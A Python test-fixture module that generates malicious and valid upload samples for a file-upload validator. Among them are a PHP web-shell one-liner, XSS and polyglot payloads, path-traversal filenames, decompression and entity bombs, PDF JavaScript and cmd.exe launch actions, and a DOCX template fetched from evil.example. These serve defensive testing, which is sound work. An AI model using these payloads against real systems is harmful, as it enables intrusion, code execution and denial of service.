"""The upload corpora of UPL-1 to UPL-3, generated in code (no binary fixtures checked in).

* `malicious()` - UPL-1: every hostile file that applies to images, audio, PDF and text, each
  with the refusal code it must get. Big files are big only in their headers (a 50,000 x 50,000
  PNG is a few hundred bytes), so every validation stays fast.
* `valid()` - UPL-2: files real people send (CMYK and progressive JPEG, 16-bit PNG, EXIF
  orientations 1-8, WebP, ID3v2.4 MP3, WAV, FLAC, Ogg, reportlab PDFs, UTF-8 texts).
* `with_metadata()` - UPL-3: files whose every metadata field carries the CANARY string (and
  GPS coordinates), so "0 tags survive" is also a plain byte search.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from functools import cache

from twinning.core.uploads import (
    AUDIO_LIMITS,
    IMAGE_LIMITS,
    OFFICE_LIMITS,
    PDF_LIMITS,
    TEXT_LIMITS,
    Kind,
    UploadLimits,
)

CANARY = "Zq7Kestrel4431"
# Assembled at run time so this file itself carries no antivirus test signature.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
ALL_KINDS = (Kind.IMAGE, Kind.AUDIO, Kind.PDF, Kind.TEXT)  # the office kinds have their own


@dataclass(frozen=True)
class Sample:
    label: str
    data: bytes
    allowed: tuple[Kind, ...]
    limits: UploadLimits
    name: str = "upload.bin"
    content_type: str = "application/octet-stream"
    code: str = ""  # the refusal code a malicious sample must get
    expect: dict = field(default_factory=dict)  # what a valid sample must come out as


# --- Builders -----------------------------------------------------------------------------


def png_chunk(ctype: bytes, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))
        + ctype
        + payload
        + struct.pack(">I", zlib.crc32(ctype + payload) & 0xFFFFFFFF)
    )


def raw_png(
    width: int,
    height: int,
    *,
    bit_depth: int = 8,
    color_type: int = 2,
    rows: bytes | None = None,
    extra_chunks: list[tuple[bytes, bytes]] = (),
    idat: bytes | None = None,
) -> bytes:
    """A PNG written by hand: 16-bit colour (which Pillow cannot write), or a header that
    promises far more pixels than the file holds (a decompression bomb)."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    if idat is None:
        idat = zlib.compress(rows)
    chunks = [png_chunk(b"IHDR", ihdr)]
    chunks += [png_chunk(ctype, payload) for ctype, payload in extra_chunks]
    chunks += [png_chunk(b"IDAT", idat), png_chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def png_16bit_rgb(width: int = 64, height: int = 48, *, alpha: bool = False) -> bytes:
    channels = 4 if alpha else 3
    rows = bytearray()
    for y in range(height):
        rows.append(0)  # filter type None
        for x in range(width):
            values = [x * 1000 % 65536, y * 1300 % 65536, 40000] + ([65535] if alpha else [])
            rows += struct.pack(f">{channels}H", *values)
    return raw_png(width, height, bit_depth=16, color_type=6 if alpha else 2, rows=bytes(rows))


def bomb_png(width: int, height: int) -> bytes:
    """A 1-bit PNG header for `width` x `height` pixels with a short compressed stream: decoding
    it fully would need gigabytes; a correct check refuses it from the header."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (width // 8 + 1)
    idat = compressor.compress(row * 64) + compressor.flush(zlib.Z_SYNC_FLUSH)
    return raw_png(width, height, bit_depth=1, color_type=0, idat=idat)


def pil_image(mode: str = "RGB", size: tuple[int, int] = (64, 48)):
    """A picture with something in every corner, so orientation and colour are checkable."""
    from PIL import Image, ImageDraw

    image = Image.new("RGB", size, (30, 120, 200))
    draw = ImageDraw.Draw(image)
    w, h = size
    draw.rectangle([0, 0, w // 4, h // 4], fill=(255, 0, 0))  # red top-left
    draw.rectangle([w - w // 4, h - h // 4, w, h], fill=(0, 255, 0))  # green bottom-right
    if mode != "RGB":
        image = image.convert(mode)
    return image


def save(image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def jpeg(size=(64, 48), **options) -> bytes:
    return save(pil_image("RGB", size), "JPEG", quality=90, **options)


def jpeg_with_segments(segments: list[tuple[int, bytes]], base: bytes | None = None) -> bytes:
    """A JPEG with extra marker segments (APPn, COM) inserted after SOI."""
    base = base or jpeg()
    extra = b"".join(
        b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload
        for marker, payload in segments
    )
    return base[:2] + extra + base[2:]


def iptc_segment(text: str) -> tuple[int, bytes]:
    """An APP13 Photoshop segment with an IPTC by-line (2:80) and caption (2:120)."""
    value = text.encode()
    records = b"".join(
        b"\x1c\x02" + bytes([tag]) + struct.pack(">H", len(value)) + value for tag in (80, 120)
    )
    resource = b"8BIM" + struct.pack(">H", 0x0404) + b"\x00\x00" + struct.pack(">I", len(records))
    resource += records + (b"\x00" if len(records) % 2 else b"")
    return 0xED, b"Photoshop 3.0\x00" + resource


def xmp_packet(text: str) -> bytes:
    return (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:creator>{text}</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>"
        '<?xpacket end="w"?>'
    ).encode()


def exif_with_gps(orientation: int | None = None, text: str = CANARY):
    from PIL import Image

    exif = Image.Exif()
    exif[0x013B] = text  # Artist
    exif[0x8298] = text  # Copyright
    exif[0x010E] = text  # ImageDescription
    exif[0x0131] = text  # Software
    if orientation:
        exif[0x0112] = orientation
    gps = {1: "N", 2: (48.0, 51.0, 29.0), 3: "E", 4: (2.0, 17.0, 40.0)}
    exif[0x8825] = gps
    return exif


def sine(seconds: float = 1.0, rate: int = 44100, channels: int = 1):
    import numpy as np

    t = np.arange(int(seconds * rate)) / rate
    mono = (0.3 * np.sin(2 * np.pi * 440 * t)).astype("float32")
    return np.stack([mono] * channels, axis=1) if channels > 1 else mono


def sound(fmt: str, subtype: str, *, seconds=1.0, rate=44100, channels=1) -> bytes:
    import soundfile

    out = io.BytesIO()
    soundfile.write(out, sine(seconds, rate, channels), rate, format=fmt, subtype=subtype)
    return out.getvalue()


def mp3(seconds=1.0, rate=44100, channels=1) -> bytes:
    return sound("MP3", "MPEG_LAYER_III", seconds=seconds, rate=rate, channels=channels)


def wav(seconds=1.0, rate=44100, channels=1, subtype="PCM_16") -> bytes:
    return sound("WAV", subtype, seconds=seconds, rate=rate, channels=channels)


def flac(seconds=1.0, rate=44100, channels=1) -> bytes:
    return sound("FLAC", "PCM_16", seconds=seconds, rate=rate, channels=channels)


def ogg(seconds=1.0, rate=44100, channels=1) -> bytes:
    return sound("OGG", "VORBIS", seconds=seconds, rate=rate, channels=channels)


def with_id3(data: bytes, *, text: str = CANARY, picture: bytes | None = None) -> bytes:
    """An MP3 with an ID3v2.4 tag: artist (TPE1), title, comment (COMM), TXXX and cover art
    (APIC)."""
    from mutagen.id3 import APIC, COMM, ID3, TIT2, TPE1, TXXX

    tags = ID3()
    tags.add(TPE1(encoding=3, text=[text]))
    tags.add(TIT2(encoding=3, text=[text]))
    tags.add(COMM(encoding=3, lang="eng", desc="", text=[text]))
    tags.add(TXXX(encoding=3, desc="GPS", text=["48.8582,2.2945 " + text]))
    tags.add(APIC(encoding=3, mime="image/jpeg", type=3, desc=text, data=picture or jpeg()))
    out = io.BytesIO(data)
    tags.save(out, v2_version=4)
    return out.getvalue()


def with_vorbis_comments(data: bytes, kind: str, text: str = CANARY) -> bytes:
    from mutagen.flac import FLAC, Picture
    from mutagen.oggvorbis import OggVorbis

    out = io.BytesIO(data)
    audio = FLAC(out) if kind == "flac" else OggVorbis(out)
    audio["ARTIST"] = text
    audio["COMMENT"] = text
    audio["LOCATION"] = "48.8582,2.2945 " + text
    if kind == "flac":
        picture = Picture()
        picture.type = 3
        picture.mime = "image/jpeg"
        picture.desc = text
        picture.data = jpeg()
        audio.add_picture(picture)
    out.seek(0)
    audio.save(out)
    return out.getvalue()


def riff(chunks: list[tuple[bytes, bytes]], *, form: bytes = b"WAVE", size: int | None = None):
    body = b"".join(
        ctype + struct.pack("<I", len(payload)) + payload + (b"\x00" if len(payload) % 2 else b"")
        for ctype, payload in chunks
    )
    return b"RIFF" + struct.pack("<I", size if size is not None else 4 + len(body)) + form + body


def wav_fmt(channels=1, rate=8000, bits=16, *, byte_rate=None, align=None) -> bytes:
    align = align if align is not None else channels * bits // 8
    byte_rate = byte_rate if byte_rate is not None else rate * align
    return struct.pack("<HHIIHH", 1, channels, rate, byte_rate, align, bits)


def reportlab_pdf(pages: int = 1, *, author: str = "", image: bool = False) -> bytes:
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    pdf = canvas.Canvas(out, pagesize=A4)
    if author:
        pdf.setAuthor(author)
        pdf.setTitle(author)
        pdf.setSubject(author)
        pdf.setCreator(author)
        pdf.setKeywords(author)
    for number in range(pages):
        pdf.drawString(72, 720, f"Consent form, page {number + 1}")
        if image:
            pdf.drawImage(ImageReader(io.BytesIO(jpeg())), 72, 500, width=128, height=96)
        pdf.showPage()
    pdf.save()
    return out.getvalue()


def raw_pdf(objects: list[bytes], *, root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF 1.4 written by hand from object bodies (object n is objects[n - 1]), with a
    correct classic xref table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\n" % (len(objects) + 1, root, trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


PAGE_OBJECTS = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
    b"<< /Length 0 >>\nstream\n\nendstream",
]


def pdf_with_catalog(extra: bytes, *more: bytes) -> bytes:
    """The one-page PDF with `extra` added to the catalog and objects 5.. appended."""
    objects = list(PAGE_OBJECTS)
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>"
    return raw_pdf(objects + list(more))


def pdf_in_object_stream(hidden: bytes, *, padding_mb: int = 0) -> bytes:
    """A PDF 1.5 whose catalog and pages live in a (compressed) object stream with an xref
    stream: `hidden` (e.g. an /OpenAction) never appears in the file's raw bytes."""
    inner = [
        b"<< /Type /Catalog /Pages 2 0 R " + hidden + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    header, body = b"", b""
    for number, obj in enumerate(inner, start=1):
        header += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    compressor = zlib.compressobj(9)
    stream = compressor.compress(header + body)
    padding = b" " * (1024 * 1024)
    stream += b"".join(compressor.compress(padding) for _ in range(padding_mb))
    stream += compressor.flush()
    filters = b"/Filter /FlateDecode "
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    objstm_offset = len(out)
    out += (
        b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Length %d %s>>\nstream\n"
        % (len(header), len(stream), filters)
        + stream
        + b"\nendstream\nendobj\n"
    )
    xref_offset = len(out)
    rows = struct.pack(">BIH", 0, 0, 65535)
    rows += b"".join(struct.pack(">BIH", 2, 4, index) for index in range(3))
    rows += struct.pack(">BIH", 1, objstm_offset, 0)
    rows += struct.pack(">BIH", 1, xref_offset, 0)
    out += (
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(rows)
        + rows
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def pdf_stream_bomb(megabytes: int = 80) -> bytes:
    """A PDF whose object stream inflates to `megabytes` MB from about 80 KB: reading the
    catalog hidden in it means inflating all of it."""
    return pdf_in_object_stream(b"", padding_mb=megabytes)


def encrypted_pdf() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_xmp_and_info(text: str = CANARY) -> bytes:
    """A reportlab PDF with Info (Author, Title...) and an XMP stream on the catalog."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import NameObject, StreamObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(reportlab_pdf(2, author=text))))
    xmp = StreamObject()
    xmp.set_data(xmp_packet(text))
    xmp.update({NameObject("/Type"): NameObject("/Metadata")})
    xmp.update({NameObject("/Subtype"): NameObject("/XML")})
    writer._root_object[NameObject("/Metadata")] = writer._add_object(xmp)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- The corpora --------------------------------------------------------------------------

# Names attackers use (UPL-1): each hostile payload is also tried under each of them, and the
# valid corpus is sent under them too (the name never decides anything).
HOSTILE_NAMES = [
    "photo.jpg",
    "shell.jpg.php",
    "shell.php%00.jpg",
    "shell.php\x00.jpg",
    "shell.php.",
    "shell.php ",
    "../../etc/passwd.jpg",
    "CON.jpg",
    "invoice\u202egpj.exe",
    "a" * 300 + ".jpg",
]


def _image_samples() -> list[Sample]:
    from PIL import Image

    img, lim = (Kind.IMAGE,), IMAGE_LIMITS
    png = save(pil_image(), "PNG")
    good_jpeg = jpeg()
    big_jpeg = jpeg(size=(400, 300))
    big_png = save(pil_image(size=(400, 300)), "PNG")
    html = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(1)</script></svg>"
    )
    pixel_flood_jpeg = bytearray(good_jpeg)
    sof = pixel_flood_jpeg.find(b"\xff\xc0")
    pixel_flood_jpeg[sof + 5 : sof + 9] = struct.pack(">HH", 65500, 65500)
    webp_flood = riff(
        [(b"VP8X", b"\x00\x00\x00\x00" + (16382).to_bytes(3, "little") * 2)], form=b"WEBP"
    )
    icc_chunks = [(0xE2, b"ICC_PROFILE\x00" + b"\x01\xa0" + b"\x00" * 65000) for _ in range(160)]
    xmp_chunks = [(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + b" " * 65000) for _ in range(160)]
    bad_crc = bytearray(png)
    bad_crc[-20] ^= 0xFF  # inside the compressed pixels
    bad_header = bytearray(png)
    bad_header[29] ^= 0xFF  # the IHDR checksum
    samples = [
        Sample(
            "png+html polyglot (tEXt)",
            raw_png(
                2,
                2,
                rows=b"\x00" + b"\xff" * 6 + b"\x00" + b"\xff" * 6,
                extra_chunks=[(b"tEXt", b"c\x00" + html)],
            ),
            img,
            lim,
            code="markup",
        ),
        Sample("png+html polyglot (after IEND)", png + html, img, lim, code="markup"),
        Sample(
            "jpeg+html polyglot (COM)", jpeg_with_segments([(0xFE, html)]), img, lim, code="markup"
        ),
        Sample(
            "gif+js polyglot",
            b"GIF89a/*\x00\x00\x00\x00*/=alert(1);//",
            img,
            lim,
            code="forbidden_type",
        ),
        Sample("real gif", save(pil_image(), "GIF"), img, lim, code="forbidden_type"),
        Sample("html renamed .jpg", html, img, lim, name="photo.jpg", code="forbidden_type"),
        Sample("svg with script", svg, img, lim, name="art.png", code="forbidden_type"),
        Sample(
            "svg with xml prolog", b'<?xml version="1.0"?>\n' + svg, img, lim, code="forbidden_type"
        ),
        Sample(
            "php named .jpg.php", b"<?php system($_GET['c']); ?>", img, lim, code="unrecognised"
        ),
        Sample(
            "lying content type", html, img, lim, content_type="image/png", code="forbidden_type"
        ),
        Sample(
            "truncated jpeg", big_jpeg[: len(big_jpeg) * 6 // 10], img, lim, code="image_truncated"
        ),
        Sample("truncated png", big_png[: len(big_png) // 2], img, lim, code="image_truncated"),
        Sample("png with corrupted pixel data", bytes(bad_crc), img, lim, code="image_invalid"),
        Sample("png with a bad header checksum", bytes(bad_header), img, lim, code="image_invalid"),
        Sample(
            "png decompression bomb 50000x50000",
            bomb_png(50_000, 50_000),
            img,
            lim,
            code="image_too_many_pixels",
        ),
        Sample(
            "png 9000x9000 over pixel limit",
            bomb_png(9_000, 9_000),
            img,
            lim,
            code="image_too_many_pixels",
        ),
        Sample(
            "png 12000x100 over side limit", bomb_png(12_000, 100), img, lim, code="image_too_wide"
        ),
        Sample(
            "jpeg pixel flood 65500x65500",
            bytes(pixel_flood_jpeg),
            img,
            lim,
            code="image_too_many_pixels",
        ),
        Sample("webp pixel flood", webp_flood, img, lim, code="image_too_many_pixels"),
        Sample(
            "jpeg with 10 MB ICC", jpeg_with_segments(icc_chunks), img, lim, code="image_metadata"
        ),
        Sample(
            "jpeg with 10 MB XMP", jpeg_with_segments(xmp_chunks), img, lim, code="image_metadata"
        ),
        Sample(
            "png with huge eXIf",
            raw_png(
                1,
                1,
                rows=b"\x00\x00\x00\x00",
                extra_chunks=[(b"eXIf", b"MM\x00*" + b"\x00" * 3 * 1024 * 1024)],
            ),
            img,
            lim,
            code="image_metadata",
        ),
        Sample("bmp renamed .jpg", save(pil_image(), "BMP"), img, lim, code="forbidden_type"),
        Sample("tiff renamed .jpg", save(pil_image(), "TIFF"), img, lim, code="forbidden_type"),
        Sample("zip renamed .png", b"PK\x03\x04" + b"\x00" * 40, img, lim, code="forbidden_type"),
        Sample(
            "windows program as .jpg",
            b"MZ\x90\x00" + b"\x00" * 60,
            img,
            lim,
            name="invoice\u202egpj.exe",
            code="forbidden_type",
        ),
        Sample("eicar named .jpg", EICAR, img, lim, code="malware"),
        Sample(
            "eicar inside a jpeg comment",
            jpeg_with_segments([(0xFE, EICAR)]),
            img,
            lim,
            code="malware",
        ),
        Sample("zero-byte jpg", b"", img, lim, code="empty"),
        Sample(
            "limit+1 byte",
            good_jpeg,
            img,
            UploadLimits(max_bytes=len(good_jpeg) - 1),
            code="too_large",
        ),
        Sample("audio where only images go", wav(), img, lim, code="not_allowed"),
        Sample("random bytes", bytes(range(256)) * 4, img, lim, code="unrecognised"),
    ]
    assert Image  # Pillow is needed to build these
    return samples


def _audio_samples() -> list[Sample]:
    aud, lim = (Kind.AUDIO,), AUDIO_LIMITS
    apic_40mb = with_id3(mp3(), picture=b"\xff\xd8\xff\xe0" + b"\x00" * (40 * 1024 * 1024))
    one_second = wav(rate=8000)
    real_fmt = wav_fmt()
    pcm = b"\x00\x01" * 8000
    garbage_mp3 = b"\xff\xfb\x90\x64" + bytes((i * 37) % 251 for i in range(4000))
    return [
        Sample(
            "mp3 with a 40 MB APIC",
            apic_40mb,
            aud,
            lim,
            code="audio_metadata",
        ),
        Sample(
            "mp3 with a 40 MB APIC over a 20 MB field",
            apic_40mb,
            aud,
            UploadLimits(max_bytes=20 * 1024 * 1024),
            code="too_large",
        ),
        Sample(
            "wav data chunk claims 1 GB",
            riff([(b"fmt ", real_fmt)]) + b"data" + struct.pack("<I", 2**30) + pcm,
            aud,
            lim,
            code="audio_lying_header",
        ),
        Sample(
            "wav riff size too big",
            riff([(b"fmt ", real_fmt), (b"data", pcm)], size=2**31),
            aud,
            lim,
            code="audio_lying_header",
        ),
        Sample(
            "wav byte rate lies",
            riff([(b"fmt ", wav_fmt(byte_rate=1)), (b"data", pcm)]),
            aud,
            lim,
            code="audio_lying_header",
        ),
        Sample(
            "wav sample rate zero",
            riff([(b"fmt ", wav_fmt(rate=0)), (b"data", pcm)]),
            aud,
            lim,
            code="audio_lying_header",
        ),
        Sample(
            "wav without fmt chunk", riff([(b"data", pcm)]), aud, lim, code="audio_lying_header"
        ),
        Sample(
            "wav over the duration limit",
            one_second,
            aud,
            UploadLimits(max_bytes=10**7, max_seconds=0.5),
            code="audio_too_long",
        ),
        Sample(
            "mp3 over the duration limit",
            mp3(seconds=3),
            aud,
            UploadLimits(max_bytes=10**7, max_seconds=2),
            code="audio_too_long",
        ),
        Sample("garbage after an mp3 frame header", garbage_mp3, aud, lim, code="audio_invalid"),
        Sample(
            "ogg page header then garbage",
            b"OggS\x00\x02" + b"\x00" * 20 + bytes(range(256)) * 8,
            aud,
            lim,
            code="audio_invalid",
        ),
        Sample("truncated flac", flac()[:200], aud, lim, code="audio_invalid"),
        Sample(
            "eicar inside an id3 comment",
            with_id3(mp3(), text=EICAR.decode()),
            aud,
            lim,
            code="malware",
        ),
        Sample(
            "html inside an id3 comment",
            with_id3(mp3(), text="<script>alert(1)</script>"),
            aud,
            lim,
            code="markup",
        ),
        Sample("zero-byte mp3", b"", aud, lim, code="empty"),
        Sample(
            "limit+1 byte wav",
            one_second,
            aud,
            UploadLimits(max_bytes=len(one_second) - 1),
            code="too_large",
        ),
        Sample("image where only audio goes", jpeg(), aud, lim, code="not_allowed"),
    ]


def _pdf_samples() -> list[Sample]:
    pdf, lim = (Kind.PDF,), PDF_LIMITS
    js_action = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    broken_xref = bytearray(reportlab_pdf())
    start = broken_xref.rfind(b"startxref")
    broken_xref[start + 10 : start + 14] = b"9999"
    return [
        Sample(
            "pdf /OpenAction javascript",
            pdf_with_catalog(b"/OpenAction 5 0 R", js_action),
            pdf,
            lim,
            code="pdf_active_content",
        ),
        Sample(
            "pdf /Names /JavaScript",
            pdf_with_catalog(
                b"/Names << /JavaScript 5 0 R >>", b"<< /Names [(x) 6 0 R] >>", js_action
            ),
            pdf,
            lim,
            code="pdf_active_content",
        ),
        Sample(
            "pdf /Launch",
            pdf_with_catalog(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
            pdf,
            lim,
            code="pdf_active_content",
        ),
        Sample(
            "pdf /EmbeddedFiles",
            pdf_with_catalog(
                b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
                b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            ),
            pdf,
            lim,
            code="pdf_active_content",
        ),
        Sample(
            "pdf catalog /AA",
            pdf_with_catalog(b"/AA << /WC 5 0 R >>", js_action),
            pdf,
            lim,
            code="pdf_active_content",
        ),
        Sample(
            "pdf name escaped /J#61vaScript",
            pdf_with_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
            pdf,
            lim,
            code="pdf_active_content",
        ),
        Sample(
            "pdf /OpenAction hidden in an object stream",
            pdf_in_object_stream(b"/OpenAction << /S /JavaScript /JS (x) >>"),
            pdf,
            lim,
            code="pdf_active_content",
        ),
        Sample("pdf with malformed xref", bytes(broken_xref), pdf, lim, code="pdf_invalid"),
        Sample(
            "pdf header then garbage",
            b"%PDF-1.7\n" + bytes(range(256)) * 4,
            pdf,
            lim,
            code="pdf_invalid",
        ),
        Sample("pdf object stream bomb", pdf_stream_bomb(), pdf, lim, code="pdf_too_complex"),
        Sample("password-protected pdf", encrypted_pdf(), pdf, lim, code="pdf_encrypted"),
        Sample(
            "pdf over the page limit",
            reportlab_pdf(3),
            pdf,
            UploadLimits(max_bytes=10**7, max_pages=2),
            code="pdf_too_many_pages",
        ),
        Sample("eicar in .pdf", b"%PDF-1.4\n" + EICAR, pdf, lim, name="form.pdf", code="malware"),
        Sample("eicar after a valid pdf", reportlab_pdf() + EICAR, pdf, lim, code="malware"),
        Sample("zero-byte pdf", b"", pdf, lim, code="empty"),
        Sample("text where only pdf goes", b"Just words.\n", pdf, lim, code="unrecognised"),
        Sample(
            "html renamed .pdf",
            b"<html><script>alert(1)</script></html>",
            pdf,
            lim,
            name="x.pdf",
            code="forbidden_type",
        ),
    ]


def _text_samples() -> list[Sample]:
    txt, lim = (Kind.TEXT,), TEXT_LIMITS
    poem = "Roses are red,\nviolets are blue.\n"
    return [
        Sample("utf-16 with bom", poem.encode("utf-16"), txt, lim, code="text_utf16"),
        Sample("utf-16le without bom", poem.encode("utf-16-le"), txt, lim, code="text_utf16"),
        Sample(
            "latin-1 text",
            "Café au lait\nrésumé\n".encode("latin-1"),
            txt,
            lim,
            code="text_encoding",
        ),
        Sample("overlong utf-8", b"abc\xc0\xafdef", txt, lim, code="text_encoding"),
        Sample("utf-8 surrogate", b"abc\xed\xa0\x80def", txt, lim, code="text_encoding"),
        Sample("nul in text", b"poem\x00poem with more text in it", txt, lim, code="text_nul"),
        Sample(
            "too many lines",
            b"line\n" * 41,
            txt,
            UploadLimits(max_bytes=10**6, max_lines=40),
            code="text_too_many_lines",
        ),
        Sample(
            "too many words",
            b"word " * 501,
            txt,
            UploadLimits(max_bytes=10**6, max_words=500),
            code="text_too_many_words",
        ),
        Sample(
            "html document as .txt",
            b"<!DOCTYPE html><html><body>hi</body></html>",
            txt,
            lim,
            code="forbidden_type",
        ),
        Sample(
            "script inside text", b"A poem\n<script>alert(1)</script>\n", txt, lim, code="markup"
        ),
        Sample("eicar as .txt", EICAR, txt, lim, code="malware"),
        Sample("zero-byte txt", b"", txt, lim, code="empty"),
        Sample("limit+1 byte text", b"x" * (TEXT_LIMITS.max_bytes + 1), txt, lim, code="too_large"),
        Sample("pdf where only text goes", reportlab_pdf(), txt, lim, code="not_allowed"),
    ]


# --- Office documents (DOCX, XLSX) ---------------------------------------------------------

WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


@cache
def docx(text: str = "Fundraising toolkit", *, author: str = "") -> bytes:
    """A real Word document written by python-docx (with its author set, when given)."""
    import docx as python_docx

    document = python_docx.Document()
    document.add_paragraph(text)
    if author:
        document.core_properties.author = author
        document.core_properties.comments = author
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx(value: str = "Budget") -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append([value, 1200])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def office_zip(parts: dict[str, bytes], *, stored: bool = False) -> bytes:
    """A ZIP of the given parts, by hand (hostile documents no editor would write)."""
    out = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(out, "w", compression=method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx_parts(extra: dict[str, bytes] | None = None) -> dict[str, bytes]:
    """The parts of python-docx's document, with `extra` added or replacing some."""
    with zipfile.ZipFile(io.BytesIO(docx())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts.update(extra or {})
    return parts


def zip_bomb_docx() -> bytes:
    """A document whose directory says one part unpacks to 4 GB: refused from the declared
    sizes, before anything is inflated."""
    data = bytearray(office_zip(docx_parts()))
    at = data.find(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 0xFFFFFFF0)
    return bytes(data)


def encrypted_entry_docx() -> bytes:
    """A document whose parts claim to be encrypted (the ZIP's flag bit 0)."""
    data = bytearray(office_zip(docx_parts(), stored=True))
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) != -1:
        data[at + 8] |= 0x1
        at += 4
    at = 0
    while (at := data.find(b"PK\x03\x04", at)) != -1:
        data[at + 6] |= 0x1
        at += 4
    return bytes(data)


def _office_samples() -> list[Sample]:
    doc, lim = (Kind.DOCX,), OFFICE_LIMITS
    macro_types = docx_parts()["[Content_Types].xml"].replace(
        WORD_TYPE.encode(), b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    remote = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm"'
        b' TargetMode="External"/></Relationships>'
    )
    entity = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"&lol2;</w:document>"
    )
    return [
        Sample(
            "docm with macros",
            office_zip(docx_parts({"[Content_Types].xml": macro_types})),
            doc,
            lim,
            code="office_active_content",
        ),
        Sample(
            "docx with vbaProject.bin",
            office_zip(docx_parts({"word/vbaProject.bin": b"x"})),
            doc,
            lim,
            code="office_active_content",
        ),
        Sample(
            "docx with an embedded object",
            office_zip(docx_parts({"word/embeddings/oleObject1.bin": b"MZ"})),
            doc,
            lim,
            code="office_active_content",
        ),
        Sample(
            "docx with activex",
            office_zip(docx_parts({"word/activeX/activeX1.xml": b"<x/>"})),
            doc,
            lim,
            code="office_active_content",
        ),
        Sample(
            "docx loading a remote template",
            office_zip(docx_parts({"word/_rels/settings.xml.rels": remote})),
            doc,
            lim,
            code="office_active_content",
        ),
        Sample(
            "docx with an entity bomb",
            office_zip(docx_parts({"word/document.xml": entity})),
            doc,
            lim,
            code="office_invalid",
        ),
        Sample("docx zip bomb", zip_bomb_docx(), doc, lim, code="office_too_complex"),
        Sample(
            "docx with encrypted parts", encrypted_entry_docx(), doc, lim, code="office_encrypted"
        ),
        Sample(
            "docx with a path out of the archive",
            office_zip({**docx_parts(), "../../evil.sh": b"rm"}),
            doc,
            lim,
            code="office_invalid",
        ),
        Sample(
            "docx whose main part has another type",
            office_zip(docx_parts({"[Content_Types].xml": b"<Types/>"})),
            doc,
            lim,
            code="office_invalid",
        ),
